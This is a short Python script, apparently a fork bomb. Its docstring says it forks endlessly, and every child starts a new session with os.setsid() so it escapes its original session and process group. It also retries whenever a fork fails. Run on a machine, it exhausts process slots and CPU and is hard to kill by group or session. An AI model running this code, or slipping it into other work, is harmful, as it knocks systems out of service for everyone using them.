"""Forks until it is stopped; each child goes on forking, outside the session and the process group it came from."""

import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        continue
